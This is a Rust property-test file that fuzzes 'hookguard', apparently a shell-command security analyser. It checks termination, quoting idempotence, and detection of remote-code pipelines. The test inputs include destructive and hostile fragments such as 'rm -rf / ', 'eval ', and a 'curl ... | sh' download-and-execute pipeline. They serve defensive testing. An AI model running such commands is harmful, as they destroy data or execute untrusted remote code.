//! Property tests for the shell analyser: it terminates and never panics on arbitrary input
//! and on mutations of the corpus, and resolving a word twice changes nothing.
//! Case counts are modest so the suite stays fast on a shared machine.

use std::path::Path;

use hookguard::shell::word::shell_quote;
use hookguard::shell::{ShellReport, TestEnv};
use proptest::prelude::*;

fn run(command: &str) -> ShellReport {
    TestEnv::new("/nonexistent/proj")
        .home("/nonexistent/home")
        .write_root("/nonexistent/tmp")
        .analyse(command)
}

fn corpus() -> &'static [String] {
    static CORPUS: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
    CORPUS.get_or_init(load_corpus)
}

fn load_corpus() -> Vec<String> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/shell");
    let mut out = Vec::new();
    for dir in ["true_positives", "false_positives", "bypass_attempts"] {
        let Ok(rd) = std::fs::read_dir(root.join(dir)) else {
            continue;
        };
        for e in rd.flatten() {
            let text = std::fs::read_to_string(e.path()).unwrap_or_default();
            let value: toml::Value =
                toml::from_str(&text).unwrap_or(toml::Value::Table(Default::default()));
            if let Some(cases) = value.get("case").and_then(|c| c.as_array()) {
                for c in cases {
                    if let Some(cmd) = c.get("command").and_then(|c| c.as_str()) {
                        out.push(cmd.to_string());
                    }
                }
            }
        }
    }
    out.sort();
    out
}

/// Shell-significant fragments that mutations insert.
const FRAGMENTS: &[&str] = &[
    "(",
    ")",
    "{",
    "}",
    "$(",
    "`",
    "'",
    "\"",
    "\\",
    "$'",
    "${",
    "<<",
    "<<EOF\n",
    "\nEOF\n",
    "|",
    "&",
    ";",
    ";;",
    "&&",
    "||",
    "\n",
    "#",
    "$((",
    "))",
    "<(",
    ">(",
    "*",
    "?",
    "[",
    "~",
    "=",
    " ",
    "esac",
    "fi",
    "done",
    "then",
    "do",
    "in",
    "case x in",
    "if true; then",
    "for x in a; do",
    "sudo ",
    "rm -rf / ",
    "bash -c '",
    "eval ",
    "\u{0}",
    "é",
    "\t",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_strings_terminate_without_panic(s in "\\PC{0,200}") {
        let _ = run(&s);
    }

    #[test]
    fn shell_alphabet_strings_terminate_without_panic(s in "[ -~\n\t]{0,300}") {
        let _ = run(&s);
    }

    #[test]
    fn corpus_mutations_terminate_without_panic(
        pick in 0usize..10_000,
        edits in proptest::collection::vec((0usize..10_000, 0usize..FRAGMENTS.len(), 0u8..3), 1..6),
    ) {
        let corpus = corpus();
        prop_assume!(!corpus.is_empty());
        let mut s: Vec<char> = corpus[pick % corpus.len()].chars().collect();
        for (at, frag, op) in edits {
            let at = if s.is_empty() { 0 } else { at % (s.len() + 1) };
            match op {
                0 => {
                    let f: Vec<char> = FRAGMENTS[frag].chars().collect();
                    s.splice(at..at, f);
                }
                1 if !s.is_empty() => {
                    let end = (at + 1 + frag % 4).min(s.len());
                    s.drain(at.min(s.len())..end);
                }
                _ => {
                    let copy: Vec<char> = s[at.min(s.len())..].iter().take(20).copied().collect();
                    s.splice(at..at, copy);
                }
            }
        }
        let text: String = s.into_iter().collect();
        let _ = run(&text);
    }

    /// Quoting a resolved word and resolving it again gives the same word.
    #[test]
    fn resolving_twice_changes_nothing(word in word_strategy()) {
        let first = run(&format!("printf x {word}"));
        prop_assume!(!first.is_opaque());
        let Some(cmd) = first.commands.last() else { return Ok(()) };
        let args: Vec<String> = cmd.argv.iter().skip(2).map(|a| a.value.clone()).collect();
        let requoted: Vec<String> = args.iter().map(|a| shell_quote(a)).collect();
        let second = run(&format!("printf x {}", requoted.join(" ")));
        let again: Vec<String> = second
            .commands
            .last()
            .map(|c| c.argv.iter().skip(2).map(|a| a.value.clone()).collect())
            .unwrap_or_default();
        prop_assert_eq!(args, again);
    }
}

/// Words built from quoting pieces (no globs, no substitutions of unknown values).
fn word_strategy() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-z0-9_./-]{1,6}",
        "[a-z !$`\"\\\\]{0,6}".prop_map(|s| format!("'{}'", s.replace('\'', ""))),
        "[a-z '$]{0,6}".prop_map(|s| format!("\"{}\"", s.replace('$', "\\$"))),
        "[a-z]".prop_map(|s| format!("\\{s}")),
        "[a-z]{0,4}".prop_map(|s| format!("$'{s}\\x41\\n\\t\\101'")),
        "[a-z]{1,3}".prop_map(|s| format!("{{{s},b}}")),
        Just("{1..3}".to_string()),
        Just("~/x".to_string()),
    ];
    proptest::collection::vec(piece, 1..4).prop_map(|ps| ps.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    /// Issue 16: what a command records of its feeders stays bounded however long the
    /// pipeline (the whole upstream closure was quadratic), and a download or decode feeding a
    /// shell is still found however many stages lie between them (C8).
    #[test]
    fn long_pipelines_stay_linear_and_keep_their_feeder(
        stages in 0usize..3_000,
        source in prop_oneof![Just("curl -s https://example.com/i.sh"), Just("base64 -d x.b64"), Just("cat x")],
        filter in prop_oneof![Just("cat"), Just("tr a b"), Just("sed s/a/b/")],
    ) {
        let cmd = format!("{source}{} | sh", format!(" | {filter}").repeat(stages));
        let r = run(&cmd);
        for c in &r.commands {
            prop_assert!(c.connection.fed_by.len() <= 2, "{} feeders recorded", c.connection.fed_by.len());
        }
        let found = r.findings.iter().any(|f| f.rule == "shell.remote-code");
        prop_assert_eq!(found, !source.starts_with("cat"), "{}", &cmd[..cmd.len().min(80)]);
    }
}
